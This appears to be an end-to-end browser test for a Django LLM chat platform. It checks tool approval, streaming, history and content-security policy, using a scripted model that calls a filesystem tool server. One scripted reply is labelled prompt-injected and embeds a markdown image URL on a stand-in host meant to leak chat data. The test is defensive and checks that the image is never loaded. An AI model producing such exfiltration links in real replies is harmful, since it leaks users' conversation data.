"""End to end in a real browser: Playwright drives Debian's Chromium against the platform served by Daphne,
with a scripted model (local OpenAI wire server) that uses the filesystem MCP server."""

import shutil
from pathlib import Path

import pytest
from django.contrib.auth.hashers import PBKDF2PasswordHasher

from mcp_servers.models import McpServer

from .conftest import platform_process
from .fakes.wire import ToolCallSpec, Turn

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(shutil.which("chromium") is None, reason="Debian's chromium is not installed"),
    pytest.mark.skipif(shutil.which("npx") is None, reason="npx is not installed"),
]
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
LEAK_URL = "http://example.invalid/leak?d=secret"
DATA_IMAGE = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


def test_chat_in_the_browser_streams_text_and_tool_cards_and_keeps_history(user, providers, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    # The server process checks passwords with the real (PBKDF2) hasher, not the tests' fast one.
    user.password = PBKDF2PasswordHasher().encode("browser-pass-123", "browsertestsalt")
    user.save(update_fields=["password"])
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    McpServer.objects.create(
        name="files",
        transport="stdio",
        command=shutil.which("npx"),
        timeout_seconds=60,
        args=["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", str(sandbox)],
    )
    target = str(sandbox / "browser-test.txt")
    final = "I wrote the file and read it back: it says **hello from the browser test**."
    providers["openai"].push(
        Turn(
            text="Creating the file.",
            tool_calls=[ToolCallSpec("files__write_file", {"path": target, "content": "hello from the browser test"})],
        ),
        Turn(text="Now reading it.", tool_calls=[ToolCallSpec("files__read_text_file", {"path": target})]),
        Turn(text=final, chunk_size=3),
        # A prompt-injected reply that tries to send chat data out through an image URL.
        Turn(text=f"Done. ![the picture]({LEAK_URL}) and a local one: ![dot]({DATA_IMAGE})"),
    )
    providers["openai"].stream_delay = 0.02  # a model that takes its time per token
    ARTIFACTS.mkdir(exist_ok=True)

    with platform_process() as base_url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        page = browser.new_page()
        problems = []  # shown if the test fails: the page's own errors
        # Chromium reports each CSP violation to the page as an event; the init script passes them on.
        violations = []
        page.add_init_script(
            "document.addEventListener('securitypolicyviolation',"
            " (e) => console.log(`csp-violation ${e.effectiveDirective} ${e.blockedURI}`));"
        )
        requested = []
        page.on("request", lambda request: requested.append(request.url))
        failed = {}
        page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
        page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
        page.on(
            "console",
            lambda message: (
                problems.append(f"console: {message.text}") if message.type in ("error", "warning") else None
            ),
        )
        page.on(
            "console",
            lambda message: (
                violations.append(message.text.removeprefix("csp-violation "))
                if message.text.startswith("csp-violation ")
                else None
            ),
        )
        deltas = []
        page.on(
            "websocket",
            lambda ws: ws.on(
                "framereceived", lambda frame: deltas.append(frame) if '"text_delta"' in str(frame) else None
            ),
        )
        try:
            # log in
            page.goto(f"{base_url}/")
            expect(page).to_have_url(f"{base_url}/login/?next=/")
            page.fill("input[name=username]", "alice")
            page.fill("input[name=password]", "browser-pass-123")
            page.click("button[type=submit]")
            expect(page).to_have_url(f"{base_url}/")

            # start a chat and ask
            page.click("#new-chat")
            expect(page.locator("#input"), "\n".join(problems)).to_be_enabled(timeout=15_000)
            page.select_option("#provider", "openai")
            expect(page.locator("#model option[value=gpt-4o-mini]")).to_have_count(1)
            page.select_option("#model", "gpt-4o-mini")
            page.fill("#input", "Create a test file and read it back")
            page.press("#input", "Enter")

            # the server marks write_file destructive: the turn waits for a yes, and a reloaded page asks again
            expect(page.locator(".tool .approval")).to_contain_text("Run write_file on files", timeout=60_000)
            expect(page.locator(".tool.waiting pre.args")).to_contain_text("hello from the browser test")
            assert not (sandbox / "browser-test.txt").exists()
            page.reload()
            expect(page.locator(".tool .approval")).to_contain_text("Run write_file on files", timeout=15_000)
            expect(page.locator(".tool.waiting summary")).to_contain_text("files__write_file")
            page.screenshot(path=str(ARTIFACTS / "chat-approval.png"), full_page=True)
            page.locator(".approval button.approve").click()
            expect(page.locator(".approval .decided")).to_have_text("Approved.")

            # the two tool cards fill in, and the answer streams in
            expect(page.locator(".tool.ok")).to_have_count(2, timeout=60_000)
            answer = page.locator(".msg.assistant", has_text="I wrote the file")
            expect(answer).to_contain_text("hello from the browser test", timeout=30_000)
            expect(answer.locator("strong")).to_have_text("hello from the browser test")  # Markdown rendered
            expect(page.locator(".msg.assistant .usage").last).to_contain_text("tokens")
            final_frames = [frame for frame in deltas if '"round": 3' in str(frame)]
            assert len(final_frames) > 5  # the answer streamed in piece by piece, not at once
            assert (sandbox / "browser-test.txt").read_text() == "hello from the browser test"
            cards = page.locator(".tool")
            expect(cards.nth(0)).to_contain_text("files__write_file")
            expect(cards.nth(1)).to_contain_text("files__read_text_file")
            expect(page.locator("#chat-list li.active")).to_contain_text("Create a test file and read it back")
            page.screenshot(path=str(ARTIFACTS / "chat-streamed.png"), full_page=True)

            # the same history after a reload
            page.reload()
            expect(page.locator(".tool.ok")).to_have_count(2, timeout=15_000)
            expect(page.locator(".msg.user")).to_have_text(["Create a test file and read it back"])
            expect(page.locator(".msg.assistant", has_text="I wrote the file").locator("strong")).to_have_text(
                "hello from the browser test"
            )
            page.locator(".tool").nth(1).locator("summary").click()
            expect(page.locator(".tool").nth(1).locator("pre.result")).to_have_text("hello from the browser test")
            page.screenshot(path=str(ARTIFACTS / "chat-reloaded.png"), full_page=True)

            # a remote image in the reply is a link, never loaded; a data: image still shows
            page.select_option("#provider", "openai")
            expect(page.locator("#model option[value=gpt-4o-mini]")).to_have_count(1)
            page.select_option("#model", "gpt-4o-mini")
            page.fill("#input", "Show me a picture")
            page.press("#input", "Enter")
            reply = page.locator(".msg.assistant", has_text="Done.")
            expect(reply.locator("a.remote-image")).to_have_text("🖼 the picture", timeout=30_000)
            link = reply.locator("a.remote-image")
            assert link.get_attribute("href") == LEAK_URL
            assert link.get_attribute("target") == "_blank"
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
            expect(page.locator("img[src*='example.invalid']")).to_have_count(0)
            expect(reply.locator("img")).to_have_attribute("src", DATA_IMAGE)
            page.reload()  # the stored reply renders the same way
            expect(page.locator(".msg.assistant a.remote-image")).to_have_text("🖼 the picture", timeout=15_000)
            expect(page.locator("img[src*='example.invalid']")).to_have_count(0)
            assert [url for url in requested if "example.invalid" in url] == []
            assert violations == []  # the chat page itself keeps to its policy

            # the policy is enforced: an image from elsewhere, put on the page by hand, is refused
            page.evaluate("document.body.append(Object.assign(new Image(), {src: 'http://example.invalid/probe'}))")
            for _ in range(50):  # Playwright delivers events while the page is awaited
                if violations and failed:
                    break
                page.wait_for_timeout(100)
            assert violations == ["img-src http://example.invalid/probe"]
            assert failed == {"http://example.invalid/probe": "csp"}  # blocked in the browser, never sent

            # the API docs (inline blocks with a nonce) keep to it too
            violations.clear()
            page.goto(f"{base_url}/api/docs/")
            expect(page.locator(".swagger-ui .info .title")).to_contain_text("LLM Platform API", timeout=15_000)
            expect(page.locator(".opblock").first).to_be_visible()
            assert violations == []
        finally:
            browser.close()
